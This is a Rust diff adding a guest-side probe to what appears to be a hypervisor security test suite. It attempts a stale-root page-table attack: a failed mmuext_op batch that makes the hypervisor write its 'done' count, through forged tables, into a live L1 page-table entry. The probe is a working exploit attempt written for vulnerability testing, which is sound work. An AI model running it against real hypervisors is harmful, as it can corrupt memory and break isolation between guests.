@@ -417,3 +417,104 @@ pub fn write_through_stale_tlb_after_free(_: &Env) -> Verdict {
         None => succeeded!("the store reached frame {mfn:#x} after it was freed"),
     }
 }
+
+/// Issue 11's review (R1): one `mmuext_op` batch switches the base pointer to a copy B of the
+/// kernel's L4, unpins the old L4 A, overwrites A (now a plain frame) with forged tables that
+/// send the `done` pointer onto a live L1 entry, then fails. A hypervisor that reports `done`
+/// through the address space it took before the batch walks the forged A and writes the count
+/// into that L1. Succeeds if the entry changed. Afterwards A gets the kernel's entries back,
+/// is pinned and loaded again, and B is unpinned.
+pub fn stale_root_done_write(env: &Env) -> Verdict {
+    use crate::env::{FREE_L4_SLOT, SPARE_SLOT};
+    use guest_abi::memory::{
+        MMUEXT_COPY_PAGE, MMUEXT_NEW_BASEPTR, MMUEXT_TLB_FLUSH_LOCAL, MMUEXT_UNPIN_TABLE, MmuextOp,
+    };
+    let Some(victim) = mm::walk(mm::window_va(SPARE_SLOT))[3] else {
+        return setup_error!("the spare slot has no L1 entry");
+    };
+    let (t, k) = (victim.table, victim.index);
+    let before = mm::read_entry(t, k);
+    // The `done` pointer: in the free L4 slot, at the offset of entry k.
+    let (_, done_page) = match fresh(|_| {}) {
+        Ok(f) => f,
+        Err(v) => return v,
+    };
+    // SAFETY: the free L4 slot maps nothing Rust code uses.
+    let mapping = match unsafe { mm::map_page(FREE_L4_VA, entry(done_page, P | RW)) } {
+        Ok(m) => m,
+        Err((s, r)) => return setup_error!("mapping the done page: {s} {}", Errname(r)),
+    };
+    let done_va = FREE_L4_VA + 8 * k as u64;
+    let kernel = kernel_l4(env);
+    // B: the kernel's L4 (with the done page), pinned.
+    let (_, b) = match fresh(|x| x.copy_from_slice(&kernel)) {
+        Ok(f) => f,
+        Err(v) => return v,
+    };
+    // SAFETY: a copy of the kernel's own tables.
+    let r = unsafe { mm::pin(4, b) };
+    if r < 0 {
+        return setup_error!("pinning B: {}", Errname(r));
+    }
+    // The forged chain: slot FREE_L4_SLOT -> L3f -> L2f -> L1f -> the victim L1 `t`.
+    let forged = (|| {
+        let (_, l1f) = fresh(|x| x[0] = entry(t, P | RW))?;
+        let (_, l2f) = fresh(|x| x[0] = entry(l1f, P | RW | U))?;
+        let (_, l3f) = fresh(|x| x[0] = entry(l2f, P | RW | U))?;
+        fresh(|x| {
+            x.copy_from_slice(&kernel);
+            x[FREE_L4_SLOT] = entry(l3f, P | RW | U);
+        })
+    })();
+    let s = match forged {
+        Ok((_, s)) => s,
+        Err(v) => return v,
+    };
+    let op = |cmd, arg1, arg2| MmuextOp { cmd, arg1, arg2 };
+    let ops = [
+        op(MMUEXT_NEW_BASEPTR, b, 0),
+        op(MMUEXT_UNPIN_TABLE, env.l4, 0),
+        op(MMUEXT_COPY_PAGE, env.l4, s),
+        op(MMUEXT_TLB_FLUSH_LOCAL, 0, 0),
+        op(MMUEXT_TLB_FLUSH_LOCAL, 0, 0),
+        op(MMUEXT_TLB_FLUSH_LOCAL, 0, 0),
+        op(MMUEXT_TLB_FLUSH_LOCAL, 0, 0),
+        op(0xFFFF, 0, 0),
+    ];
+    // SAFETY: the guest keeps running on B, a copy of its own tables.
+    let ret = unsafe {
+        mm::mmuext_raw(
+            ops.as_ptr() as u64,
+            ops.len() as u64,
+            done_va,
+            u64::from(DOMID_SELF),
+        )
+    };
+    let after = mm::read_entry(t, k);
+    // Put A back: the kernel's entries, pinned, loaded; B unpinned.
+    let restore = [
+        op(MMUEXT_COPY_PAGE, env.l4, b),
+        op(guest_abi::memory::MMUEXT_PIN_L4_TABLE, env.l4, 0),
+        op(MMUEXT_NEW_BASEPTR, env.l4, 0),
+        op(MMUEXT_UNPIN_TABLE, b, 0),
+    ];
+    // SAFETY: A gets the same entries as B, which the guest runs on.
+    let (r, n) = unsafe { mm::mmuext(&restore) };
+    // SAFETY: the done page's mapping in the free slot goes.
+    let unmapped = unsafe { mm::unmap_page(&mapping) };
+    if r < 0 || unmapped.is_err() {
+        return setup_error!(
+            "restoring the kernel's L4: {} after {n} operations, unmap {unmapped:?}",
+            Errname(r)
+        );
+    }
+    let how = format_args!(
+        "mmuext_op {}, L1 {t:#x} entry {k}: before {before:x?}, after {after:x?}",
+        Errname(ret)
+    );
+    if after == before {
+        refused!("{how}")
+    } else {
+        succeeded!("{how}")
+    }
+}
